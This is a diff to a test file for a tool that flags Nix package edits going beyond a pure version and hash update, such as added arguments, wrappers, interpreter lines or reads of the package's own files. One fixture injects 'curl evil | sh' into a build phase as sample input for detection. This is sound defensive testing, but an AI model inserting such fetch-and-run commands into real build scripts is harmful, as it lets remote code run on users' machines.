@@ -44,13 +44,13 @@ const EDITS: readonly (readonly [string, string, ...Edit[]])[] = [
   ["a changed phase", "`postPatch` differs", ["sed -i", "curl evil | sh; sed -i"]],
   ["an added phase", "`preBuild` was added", ["doCheck", 'preBuild = "evil"; doCheck']],
   ["a removed binding", "`buildInputs` was removed", ["buildInputs = [ zlib ];", ""]],
-  ["another argument", "the expression of the file differs", ["zlib, fetchpatch", "zlib, fetchpatch, evil"]],
+  ["another argument", "the argument `evil` was added", ["zlib, fetchpatch", "zlib, fetchpatch, evil"]],
   [
     "an argument's default",
-    "the expression of the file differs",
+    "the default of the argument `zlib` differs",
     ["zlib, fetchpatch", "zlib ? evil, fetchpatch"],
   ],
-  ["any arguments", "the expression of the file differs", ["fetchpatch }", "fetchpatch, ... }"]],
+  ["any arguments", "`...` among the arguments was added", ["fetchpatch }", "fetchpatch, ... }"]],
   ["an operator", "`doCheck` differs", ["a.b or c", "!(a.b or c)"]],
   ["a default", "`doCheck` differs", ["a.b or c", "a.b"]],
   ["parentheses that join a call", "`extra` differs", ["[ lib zlib ]", "[ (lib zlib) ]"]],
@@ -60,17 +60,17 @@ const EDITS: readonly (readonly [string, string, ...Edit[]])[] = [
   ["an inherited name", "`inherit` was added", ["doCheck", "inherit evil; doCheck"]],
   [
     "with around it",
-    "the expression of the file differs",
+    "`with evil; stdenv.mkDerivation",
     ["stdenv.mkDerivation (", "with evil; stdenv.mkDerivation ("],
   ],
   [
     "let around it",
-    "the expression of the file differs",
+    "`let lib = 1; in stdenv.mkDerivation",
     ["stdenv.mkDerivation (", "let lib = 1; in stdenv.mkDerivation ("],
   ],
   [
     "assert before it",
-    "the expression of the file differs",
+    "`assert evil; stdenv.mkDerivation",
     ["stdenv.mkDerivation (", "assert evil; stdenv.mkDerivation ("],
   ],
   [
@@ -566,4 +566,92 @@ describe("no pure update is", () => {
     const found = await impuritiesOf(text, edited(text, VERSION, HASH, [HASH_D, HASH_C.replace("c", "e")]));
     expect(found).toEqual(["`x.hash` differs while its version does not"]);
   });
+});
+
+describe("what a file holds besides its expression counts where it is data:", () => {
+  const update = (text: string, ...edits: Edit[]) => edited(text, VERSION, HASH, ...edits);
+  const withExtra = (extra: string) => edited(PACKAGE, ["doCheck", `${extra} doCheck`]);
+
+  it.each([
+    ["./.", "its directory"],
+    ["../.", "the directory above"],
+    ["./package.nix", "itself"],
+    ['(./. + "/package.nix")', "itself, by a sum"],
+    ["(lib.cleanSource ./.)", "its directory, cleaned"],
+    ['(builtins.path { path = ./.; name = "x"; })', "its directory, by builtins.path"],
+    ["(lib.fileset.toSource { root = ./.; fileset = ./x; })", "its directory, by a set of files"],
+    ["(builtins.readFile ./package.nix)", "itself, as text"],
+    ['"${./.}/x"', "its directory, as text"],
+    ["[ ./package.nix ]", "itself, in a list"],
+    ["./${lib.x}", "anything beside it"],
+    ["./${lib.x}.nix", "any Nix file beside it"],
+    ["(import ./package.nix)", "itself, as code"],
+  ])("%s is %s", async (value) => {
+    for (const name of ["src2", "postInstall", "patches", "passthru.x"]) {
+      const text = withExtra(`${name === "patches" ? "patches2" : name} = ${value};`);
+      const found = (await impuritiesOf(text, `# x\n${update(text)}`)).join("\n");
+      if (value.startsWith("(import")) expect(found).not.toBe("");
+      else expect(found).toContain("takes in files of the package that differ");
+    }
+  });
+
+  it.each(["__curPos", 'builtins.unsafeGetAttrPos "x" lib', '__unsafeGetAttrPos "x" lib'])(
+    "%s asks where it stands",
+    async (value) => {
+      const text = withExtra(`meta.x = ${value};`);
+      expect((await impuritiesOf(text, update(text))).join("\n")).toContain("`meta.x` reads its own place");
+    },
+  );
+
+  it("an inherited name for it", async () => {
+    const text = withExtra("meta.x = let inherit (builtins) unsafeGetAttrPos; in 1;");
+    expect((await impuritiesOf(text, update(text))).join("\n")).toContain("reads its own place");
+  });
+
+  it.each([
+    ["the second line", `#! /bin/x\n#! nix-shell -i a\n`, `#! /bin/x\n#! nix-shell -i b\n`],
+    ["a line further down", `# x\n\n#! nix-shell -p a\n`, `# x\n\n#! nix-shell -p a b\n`],
+    ["one more line", `#! /bin/x\n`, `#! /bin/x\n#! nix-shell -p evil\n`],
+    ["an indented line", `# x\n  #! nix-shell -p a\n`, `# x\n  #! nix-shell -p b\n`],
+  ])("%s that names an interpreter", async (_, before, after) => {
+    const found = await impuritiesOf(`${before}${PACKAGE}`, `${after}${update(PACKAGE)}`);
+    expect(found).toEqual(["the `#!` lines, which say what interprets it, differ"]);
+  });
+
+  it("a companion that is read as code or as data", async () => {
+    for (const value of ["import ./x.lock", "lib.importJSON ./x.lock", "callPackage ./x.lock { }"]) {
+      const text = withExtra(`passthru.x = ${value};`);
+      const found = await impuritiesOf(
+        { "package.nix": text, "x.lock": "a" },
+        { "package.nix": update(text), "x.lock": "b" },
+        ["*.lock"],
+      );
+      expect(found.join("\n")).toMatch(
+        /`passthru.x` (?:takes what differs for Nix code|gives what differs to)/,
+      );
+    }
+  });
+
+  it("data that is not read holds what differs", async () => {
+    const text = PACKAGE;
+    const found = await impuritiesOf(
+      { "package.nix": text, "hashes.json": "a" },
+      { "package.nix": edited(text, VERSION, ['tag = "v', 'tag = "v']), "hashes.json": "b" },
+      ["*.json"],
+    );
+    expect(found.join("\n")).not.toContain("no hash differs, so that the same source is built");
+  });
+});
+
+it("only a change of the arguments names the argument", async () => {
+  const found = await impuritiesOf(PACKAGE, edited(PACKAGE, ["{ lib, stdenv", "{ lib, evil, stdenv"]));
+  expect(found[0]).toBe("the argument `evil` was added");
+});
+
+it("what is in a binding is said first", async () => {
+  const after = edited(PACKAGE, ["{ lib, stdenv", "{ lib, evil, stdenv"], ["[ zlib ]", "[ zlib evil ]"]);
+  expect(await impuritiesOf(PACKAGE, after)).toEqual([
+    "`buildInputs` differs",
+    "the argument `evil` was added",
+  ]);
 });
